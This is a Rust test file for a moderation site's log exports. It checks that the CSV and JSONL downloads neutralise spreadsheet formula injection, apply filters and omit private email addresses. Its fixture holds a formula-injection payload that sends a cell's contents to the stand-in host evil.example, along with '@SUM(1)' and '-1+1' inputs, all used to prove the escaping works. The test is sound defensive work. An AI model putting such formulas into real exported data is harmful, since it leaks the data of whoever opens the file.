//! The log as a file, read back as others read it.

use super::{Desk, comment};
use crate::support::make;
use byline::accounts::Role;
use diesel::RunQueryDsl;
use diesel::connection::SimpleConnection;
use diesel::sql_types::Text;
use serde_json::Value;

const HOSTILE: &str = "=HYPERLINK(\"https://evil.example?x=\"&A1,\"a, b\")";

/// The records of a table (RFC 4180 §2); fails on whatever is none.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut records = vec![vec![]];
    let mut rest = text;
    while !rest.is_empty() {
        rest = rest.strip_prefix('"').expect("every cell is in quotes");
        let mut cell = String::new();
        loop {
            let end = rest.find('"').expect("the quotes are closed");
            cell.push_str(&rest[..end]);
            rest = &rest[end + 1..];
            match rest.strip_prefix('"') {
                Some(more) => {
                    cell.push('"');
                    rest = more;
                }
                None => break,
            }
        }
        records.last_mut().unwrap().push(cell);
        match rest.strip_prefix(',') {
            Some(more) => rest = more,
            None => {
                rest = rest
                    .strip_prefix("\r\n")
                    .expect("a record ends with its line");
                records.push(vec![]);
            }
        }
    }
    records.pop();
    records
}

/// A site on which somebody of a hostile name was decided about, with hostile words.
fn hostile() -> Desk {
    let desk = Desk::open();
    make::account(&desk.app, "Ana Ruiz", "ana@example.org", Role::Reader);
    let ana = desk.app.visitor();
    ana.sign_in("ana@example.org");
    let id = comment(&ana, "The words of the comment itself.");
    let note = format!("{HOSTILE}\n\"quoted\",");
    let form = [
        ("seen", "held"),
        ("version", "1"),
        ("reason", "other"),
        ("note", note.as_str()),
    ];
    desk.decide(id, "rejection", &form).expect(303);
    let message = "@SUM(1)\r\nsecond, \"line\"";
    let form = [
        ("kind", "suspended"),
        ("reason", "other"),
        ("until", "date"),
        ("date", "2026-06-01"),
        ("message", message),
        ("note", "-1+1"),
    ];
    desk.moderator
        .post("/moderation/people/ana-ruiz/states", &form)
        .expect(303);
    desk.app.write(|tx| {
        diesel::sql_query("UPDATE accounts SET name = $1 WHERE slug = 'ana-ruiz'")
            .bind::<Text, _>(HOSTILE)
            .execute(&mut **tx)?;
        Ok(())
    });
    desk
}

#[test]
fn the_log_is_a_table_every_program_reads_and_no_spreadsheet_runs() {
    let desk = hostile();
    let page = desk.moderator.get("/moderation/log.csv").expect(200);
    assert_eq!(
        page.header("content-type"),
        "text/csv; charset=utf-8; header=present"
    );
    let name = "attachment; filename=\"moderation-log-2026-03-14.csv\"";
    assert_eq!(page.header("content-disposition"), name);
    assert_eq!(page.header("cache-control"), "private, no-store");
    let table = records(&page.body);
    assert_eq!(table.len(), 3, "{table:?}");
    let cell = |row: usize, column: &str| {
        let at = table[0].iter().position(|one| one == column).unwrap();
        table[row][at].as_str()
    };
    assert_eq!(cell(1, "action"), "suspended");
    assert_eq!(cell(1, "about"), format!("'{HOSTILE}"));
    assert_eq!(cell(1, "told"), "'@SUM(1)\nsecond, \"line\"");
    assert_eq!(cell(1, "for_staff"), "'-1+1");
    assert_eq!(cell(1, "until"), "2026-06-01T00:00:00Z");
    assert_eq!(cell(2, "action"), "reject");
    assert_eq!(cell(2, "by"), "Sam Okafor");
    assert_eq!(cell(2, "at"), "2026-03-14T09:26:53Z");
    assert_eq!(cell(2, "comment"), "/comments/1");
    assert_eq!(cell(2, "article"), "/ferries");
    assert_eq!(cell(2, "article_title"), "The last boat");
    assert_eq!(cell(2, "told"), format!("'{HOSTILE} \"quoted\","));
    for row in &table[1..] {
        assert_eq!(row.len(), table[0].len());
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }
    let private = ["@example.org", "words of the comment"];
    assert!(private.iter().all(|word| !page.body.contains(word)));
}

#[test]
fn the_log_is_an_object_a_line_for_programs() {
    let desk = hostile();
    let page = desk.moderator.get("/moderation/log.jsonl").expect(200);
    let name = "attachment; filename=\"moderation-log-2026-03-14.jsonl\"";
    assert_eq!(page.header("content-disposition"), name);
    let objects: Vec<Value> = page
        .body
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(objects.len(), 2);
    assert_eq!(objects[0]["about"], HOSTILE);
    assert_eq!(objects[0]["told"], "@SUM(1)\nsecond, \"line\"");
    assert_eq!(objects[0]["until"], "2026-06-01T00:00:00Z");
    assert_eq!(objects[1]["at"], "2026-03-14T09:26:53Z");
    assert_eq!(objects[1]["undoes"], Value::Null);
    assert!(!page.body.contains("@example.org"));
}

#[test]
fn a_file_holds_all_that_is_asked_for_and_nothing_else() {
    let desk = hostile();
    let action = |query: &str| -> Vec<String> {
        let page = desk
            .moderator
            .get(&format!("/moderation/log.jsonl?{query}"));
        let page = page.expect(200);
        let lines = page.body.lines();
        lines
            .map(|line| {
                serde_json::from_str::<Value>(line).unwrap()["action"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect()
    };
    assert_eq!(action("action=reject"), ["reject"]);
    assert_eq!(action("by=sam-okafor&action=suspended"), ["suspended"]);
    assert!(action("since=2026-03-15").is_empty());
    let narrow = desk
        .moderator
        .get("/moderation/log?by=sam-okafor")
        .expect(200);
    let links = narrow.html();
    let links: Vec<_> = links
        .select(&scraper::Selector::parse(".as-file a").unwrap())
        .map(|link| link.attr("href").unwrap().to_owned())
        .collect();
    assert_eq!(
        links,
        [
            "/moderation/log.csv?by=sam-okafor",
            "/moderation/log.jsonl?by=sam-okafor"
        ]
    );
    let nobody = desk.moderator.get("/moderation/log.csv?by=zoe").expect(303);
    assert_eq!(nobody.location().as_deref(), Some("/moderation/log?by=zoe"));
    // More than is read at once, each line once.
    desk.app.write(|tx| {
        Ok(tx.batch_execute(
            "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2600)
             INSERT INTO decisions (comment_id, moderator_id, action, status_before, status_after, at)
             SELECT comments.id, 1, 'keep', 'published', 'published', 1773480413000 + i / 3 FROM n, comments
             WHERE comments.id = 1",
        )?)
    });
    assert_eq!(action("action=keep&by=ada-stone").len(), 2600);
    let table = desk.moderator.get("/moderation/log.csv").expect(200);
    let mut numbers: Vec<_> = records(&table.body)[1..]
        .iter()
        .map(|row| row[0].clone())
        .collect();
    assert_eq!(numbers.len(), 2602);
    numbers.sort();
    numbers.dedup();
    assert_eq!(numbers.len(), 2602);
}

#[test]
fn a_file_says_what_a_ban_covers() {
    let desk = Desk::open();
    make::account(&desk.app, "Ana Ruiz", "ana@boats.example", Role::Reader);
    let ban = [
        ("kind", "banned"),
        ("reason", "spam"),
        ("cover_spellings", "on"),
        ("cover_domain", "on"),
    ];
    desk.moderator
        .post("/moderation/people/ana-ruiz/states", &ban)
        .expect(303);
    let words = "every spelling of their address, and every address at boats.example and below";
    let table = desk.moderator.get("/moderation/log.csv").expect(200);
    let table = records(&table.body);
    let at = table[0].iter().position(|one| one == "covers").unwrap();
    assert_eq!(table[1][at], words);
    let objects = desk.moderator.get("/moderation/log.jsonl").expect(200);
    let line: Value = serde_json::from_str(objects.body.lines().next().unwrap()).unwrap();
    assert_eq!(line["covers"], words);
    assert!(!objects.body.contains("ana@"));
}
